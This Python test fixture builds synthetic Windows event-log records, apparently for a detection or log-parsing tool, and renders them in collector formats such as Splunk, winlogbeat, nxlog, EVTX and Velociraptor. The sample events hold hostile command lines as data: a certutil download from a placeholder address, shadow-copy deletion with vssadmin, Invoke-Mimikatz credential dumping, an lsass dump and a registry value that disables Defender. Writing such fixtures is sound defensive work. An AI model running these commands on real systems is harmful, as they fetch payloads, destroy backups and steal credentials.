"""Windows events made here, and the shapes in which collectors write them: the same events in every one."""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any, NamedTuple

from tests.decoders import evtx_file

__all__ = ["EVENTS", "FLAT", "SHAPES", "Made", "Shape", "evtx", "lines"]

SYSMON = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon")
SECURITY = ("Security", "Microsoft-Windows-Security-Auditing")
POWERSHELL = ("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell")
CLASSIC = ("Windows PowerShell", "PowerShell")
DEFENDER = ("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender")
TASKS = ("Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-TaskScheduler")
BITS = ("Microsoft-Windows-Bits-Client/Operational", "Microsoft-Windows-Bits-Client")
SERVICES = ("System", "Service Control Manager")
EVENTLOG = ("System", "Microsoft-Windows-Eventlog")
CLEARED = ("Security", "Microsoft-Windows-Eventlog")

System32 = "C:\\Windows\\System32\\"
Cmd = f"{System32}cmd.exe"


class Made(NamedTuple):
    """What happened; `data` are the fields of EventData, `user` those of UserData. A number tells its time and id."""

    number: int
    channel: str
    provider: str
    event_id: int
    data: dict[str, str]
    user: dict[str, str]

    @property
    def time(self) -> datetime:
        return datetime(2024, 5, 14, 9, 0, 0, 123_000, tzinfo=UTC) + timedelta(seconds=self.number)


Said = dict[str, str]


def _process(image: str, command: str, parent: str = Cmd, **more: str) -> Said:
    name = image.rpartition("\\")[2]
    return {
        "UtcTime": "2024-05-14 09:00:00.120", "ProcessId": "4711", "Image": image, "OriginalFileName": name,
        "CommandLine": command, "CurrentDirectory": "C:\\Users\\erin\\", "User": "EXAMPLE\\erin",
        "IntegrityLevel": "High", "ParentImage": parent, "ParentCommandLine": f'"{parent}"', **more,
    }  # fmt: skip


_WHAT: list[tuple[tuple[str, str], int, Said, Said]] = [
    (SYSMON, 1, _process(f"{System32}certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.9/a.txt a"), {}),
    (SYSMON, 1, _process(f"{System32}vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"), {}),
    (SYSMON, 1, _process(f"{System32}notepad.exe", "notepad.exe notes.txt", "C:\\Windows\\explorer.exe"), {}),
    (SYSMON, 3, {"Image": f"{System32}svchost.exe", "Initiated": "true", "DestinationIp": "192.0.2.1",
                 "DestinationPort": "443"}, {}),
    (SYSMON, 5, {"Image": f"{System32}notepad.exe", "ProcessId": "4711"}, {}),
    (SYSMON, 7, {"Image": Cmd, "ImageLoaded": f"{System32}ntdll.dll", "Signed": "true"}, {}),
    (SYSMON, 8, {"SourceImage": f"{System32}WindowsPowerShell\\v1.0\\powershell.exe",
                 "TargetImage": f"{System32}rundll32.exe", "StartModule": ""}, {}),
    (SYSMON, 10, {"SourceImage": "C:\\Temp\\x.exe", "TargetImage": f"{System32}lsass.exe", "GrantedAccess": "0x1010",
                  "CallTrace": f"{System32}ntdll.dll+9d4c4|UNKNOWN(00000000)"}, {}),
    (SYSMON, 11, {"Image": Cmd, "TargetFilename": "C:\\Users\\erin\\AppData\\Local\\Temp\\lsass.dmp"}, {}),
    (SYSMON, 12, {"EventType": "CreateKey", "Image": Cmd, "TargetObject": "HKLM\\SOFTWARE\\Example"}, {}),
    (SYSMON, 13, {"EventType": "SetValue", "Image": "C:\\Windows\\regedit.exe", "Details": "DWORD (0x00000001)",
                  "TargetObject": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware"}, {}),
    (SYSMON, 17, {"Image": "C:\\Temp\\x.exe", "PipeName": "\\PSEXESVC"}, {}),
    (SYSMON, 22, {"Image": "C:\\Temp\\x.exe", "QueryName": "www.example.org"}, {}),
    (SECURITY, 4688, {"SubjectUserName": "erin", "SubjectDomainName": "EXAMPLE", "SubjectLogonId": "0x3e7",
                      "NewProcessId": "0x1267", "NewProcessName": f"{System32}vssadmin.exe", "ProcessId": "0x44c",
                      "CommandLine": "vssadmin.exe delete shadows /all /quiet", "ParentProcessName": Cmd,
                      "MandatoryLabel": "S-1-16-12288"}, {}),
    (SECURITY, 4624, {"TargetUserName": "erin", "LogonType": "3", "IpAddress": "198.51.100.7"}, {}),
    (SECURITY, 4720, {"TargetUserName": "backdoor", "SubjectUserName": "erin"}, {}),
    (SECURITY, 5156, {"Application": "\\device\\harddiskvolume1\\x.exe", "DestPort": "443"}, {}),
    (CLEARED, 1102, {}, {"SubjectUserName": "erin", "SubjectDomainName": "EXAMPLE"}),
    (EVENTLOG, 104, {}, {"SubjectUserName": "erin", "Channel": "Windows PowerShell", "BackupPath": "C:\\old.evtx"}),
    (SERVICES, 7045, {"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
                      "ServiceType": "user mode service", "StartType": "demand start"}, {}),
    (POWERSHELL, 4104, {"ScriptBlockText": "Invoke-Mimikatz -DumpCreds", "Path": ""}, {}),
    (POWERSHELL, 4103, {"Payload": "CommandInvocation(Get-Date): x", "ContextInfo": "Host Application = x"}, {}),
    (CLASSIC, 400, {"Data": "EngineVersion=2.0 HostApplication=powershell.exe -version 2"}, {}),
    (DEFENDER, 1116, {"Threat Name": "HackTool:Win32/Mimikatz", "Path": "file:_C:\\Temp\\x.exe",
                      "Process Name": "C:\\Temp\\x.exe"}, {}),
    (DEFENDER, 5001, {"Product Name": "Windows Defender"}, {}),
    (TASKS, 140, {"TaskName": "\\Example", "UserName": "EXAMPLE\\erin"}, {}),
    (BITS, 16403, {"RemoteName": "http://203.0.113.9/a.exe", "LocalName": "C:\\Temp\\a.exe",
                   "processPath": "C:\\Temp\\x.exe"}, {}),
]  # fmt: skip

EVENTS = tuple(Made(number, *log, event_id, data, user) for number, (log, event_id, data, user) in enumerate(_WHAT, 1))


def _clock(event: Made, ending: str = "Z") -> str:
    return event.time.isoformat(timespec="milliseconds").removesuffix("+00:00") + ending


def _flat(event: Made) -> dict[str, Any]:
    return {
        "@timestamp": _clock(event), "EventID": event.event_id, "Provider_Name": event.provider,
        "Computer": "ws01.example.org", "EventRecordID": event.number, "Channel": event.channel,
        **event.data, **_beside(event),
    }  # fmt: skip


def _beside(event: Made) -> dict[str, str]:
    """What a flat log has of UserData: a name has but one place, and the header has it already."""
    return {name: value for name, value in event.user.items() if name != "Channel"}


def _nxlog(event: Made) -> dict[str, Any]:
    return {
        "EventTime": event.time.strftime("%Y-%m-%d %H:%M:%S"), "@timestamp": _clock(event),
        "Hostname": "ws01.example.org", "EventID": event.event_id, "SourceName": event.provider,
        "Channel": event.channel, "RecordNumber": event.number, **event.data, **_beside(event),
    }  # fmt: skip


def _splunk(event: Made) -> dict[str, Any]:
    return {
        "_time": _clock(event), "source": f"XmlWinEventLog:{event.channel}", "sourcetype": "XmlWinEventLog",
        "EventCode": str(event.event_id), "SourceName": event.provider, "ComputerName": "ws01.example.org",
        "RecordNumber": str(event.number), "LogName": event.channel, **event.data,
        **_beside(event),
    }  # fmt: skip


def _winlogbeat(event: Made) -> dict[str, Any]:
    winlog = {
        "channel": event.channel, "provider_name": event.provider, "event_id": str(event.event_id),
        "computer_name": "ws01.example.org", "record_id": event.number, "process": {"pid": 4, "thread": {"id": 8}},
    }  # fmt: skip
    winlog |= {"event_data": event.data} if event.data else {}
    winlog |= {"user_data": {"xml_name": "Said", **event.user}} if event.user else {}
    return {
        "@timestamp": _clock(event), "winlog": winlog, "event": {"code": str(event.event_id), "kind": "event"},
        "host": {"name": "ws01"}, "agent": {"type": "winlogbeat"}, "message": "something happened",
    }  # fmt: skip


def _winlogbeat_6(event: Made) -> dict[str, Any]:
    return {
        "@timestamp": _clock(event), "event_id": event.event_id, "log_name": event.channel,
        "source_name": event.provider, "computer_name": "ws01.example.org", "record_number": str(event.number),
        "event_data": event.data, "user_data": {"xml_name": "Said", **event.user}, "type": "wineventlog",
    }  # fmt: skip


def _dotted(event: Made) -> dict[str, Any]:
    winlog = _winlogbeat(event)["winlog"]
    inner = {
        f"{part}.{name}": value for part in ("event_data", "user_data") for name, value in winlog.pop(part, {}).items()
    }
    return {"@timestamp": _clock(event), **{f"winlog.{name}": value for name, value in (winlog | inner).items()}}


def _evtx_dump(event: Made) -> dict[str, Any]:
    number = event.event_id
    system: dict[str, Any] = {
        "Provider": {"#attributes": {"Name": event.provider}},
        "EventID": {"#attributes": {"Qualifiers": 16384}, "#text": number} if event.number % 2 else number,
        "TimeCreated": {"#attributes": {"SystemTime": _clock(event)}}, "EventRecordID": event.number,
        "Execution": {"#attributes": {"ProcessID": 4, "ThreadID": 8}}, "Channel": event.channel,
        "Computer": "ws01.example.org", "Security": None,
    }  # fmt: skip
    data: Any = {"Data": {"#text": [event.data["Data"], ""]}} if "Data" in event.data else event.data or None
    user = {"Said": {"#attributes": {"xmlns": "x"}, **event.user}}
    return {
        "Event": {
            "#attributes": {"xmlns": "x"},
            "System": system,
            "EventData": data,
            **({"UserData": user} if event.user else {}),
        }
    }


def _attributes_apart(event: Made) -> dict[str, Any]:
    system: dict[str, Any] = {
        "Provider_attributes": {"Name": event.provider}, "Provider": None, "EventID": event.event_id,
        "EventID_attributes": {"Qualifiers": 16384}, "TimeCreated_attributes": {"SystemTime": _clock(event)},
        "TimeCreated": None, "EventRecordID": event.number, "Channel": event.channel, "Computer": "ws01.example.org",
    }  # fmt: skip
    user = {"Said_attributes": {"xmlns": "x"}, "Said": event.user}
    return {"Event": {"System": system, "EventData": event.data, "UserData": user if event.user else None}}


def _from_xml(event: Made) -> dict[str, Any]:
    system: dict[str, Any] = {
        "Provider": {"@Name": event.provider}, "EventID": {"@Qualifiers": "16384", "#text": str(event.event_id)},
        "TimeCreated": {"@SystemTime": _clock(event)}, "EventRecordID": str(event.number), "Channel": event.channel,
        "Computer": "ws01.example.org",
    }  # fmt: skip
    named = [{"@Name": name, "#text": value} for name, value in event.data.items() if name != "Data"]
    data: Any = {"Data": event.data["Data"]} if "Data" in event.data else {"Data": named}
    return {
        "Event": {
            "@xmlns": "x",
            "System": system,
            "EventData": data,
            "UserData": {"Said": event.user} if event.user else None,
        }
    }


def _velociraptor(event: Made) -> dict[str, Any]:
    system: dict[str, Any] = {
        "Provider": {"Name": event.provider, "Guid": "x"}, "EventID": {"Value": event.event_id},
        "TimeCreated": {"SystemTime": event.time.timestamp()}, "EventRecordID": event.number,
        "Channel": event.channel, "Computer": "ws01.example.org", "Security": {"UserID": "S-1-5-18"},
    }  # fmt: skip
    return {"System": system, "EventData": event.data or None, "UserData": {"Said": event.user} if event.user else None}


Shape = Callable[[Made], dict[str, Any]]

SHAPES: dict[str, Shape] = {
    "flat": _flat, "nxlog": _nxlog, "splunk": _splunk, "winlogbeat": _winlogbeat, "winlogbeat 6": _winlogbeat_6,
    "dotted": _dotted, "evtx_dump": _evtx_dump, "attributes apart": _attributes_apart, "xml": _from_xml,
    "velociraptor": _velociraptor,
}  # fmt: skip


FLAT = ("flat", "nxlog", "splunk")


def lines(shape: Shape, events: tuple[Made, ...] = EVENTS) -> bytes:
    """A log of them, one a line."""
    return b"".join(json.dumps(shape(event), ensure_ascii=False).encode() + b"\n" for event in events)


def evtx(events: tuple[Made, ...] = EVENTS) -> bytes:
    """An event log file of them, of several chunks."""
    records = [
        evtx_file.Event(event.number, event.time, event.channel, event.provider, event.event_id, event.data, event.user)
        for event in events
    ]
    return evtx_file.evtx([records[start : start + 10] for start in range(0, len(records), 10)])
